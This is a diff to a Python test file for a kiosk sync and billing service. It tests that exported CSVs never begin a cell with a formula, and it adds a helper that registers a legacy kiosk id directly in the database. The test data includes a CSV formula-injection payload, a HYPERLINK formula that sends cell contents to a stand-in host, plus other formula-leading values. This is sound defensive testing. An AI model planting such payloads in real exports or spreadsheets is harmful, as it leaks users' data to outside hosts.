@@ -376,7 +376,7 @@ def test_hostile_text_from_a_kiosk_starts_no_formula_in_any_csv(
     from sync.sheet import FORMULA_START
 
     kiosk = '=HYPERLINK("http://x.example/?"&A1)'
-    token = office.admin("register", kiosk)
+    token = _registered_before_ids_were_checked(office, kiosk)
     j = Journal(tmp_path / "journal.sqlite", kiosk)
     tx, key, account = "+SUM(1,2)", "@K1", "-4711+1"
     day1 = datetime(2026, 11, 21, 9, 0, tzinfo=UTC)
@@ -491,3 +491,24 @@ def test_a_login_takes_as_long_for_an_unknown_name_as_for_a_known_one(office: He
         unknown.append(took(f"nobody-{i}", "guess-guess", 401))
     ratio = statistics.median(known) / statistics.median(unknown)
     assert 0.5 <= ratio <= 2, (known, unknown)
+
+
+def _registered_before_ids_were_checked(office: HeadOffice, kiosk: str) -> str:
+    """A kiosk whose id `register` refuses now (it takes only what a site file may name)
+    but an older head office registered: its token."""
+    import secrets
+
+    from sqlalchemy import insert
+
+    from sync.server import kiosks, open_db, token_digest
+    from tests.test_billing import admin
+
+    assert "is not 2 to 31 capitals" in admin(office.db, "register", kiosk).stderr
+    token = secrets.token_urlsafe(24)
+    engine = open_db(office.db)
+    try:
+        with engine.begin() as conn:
+            conn.execute(insert(kiosks).values(kiosk_id=kiosk, token_sha256=token_digest(token)))
+    finally:
+        engine.dispose()
+    return token
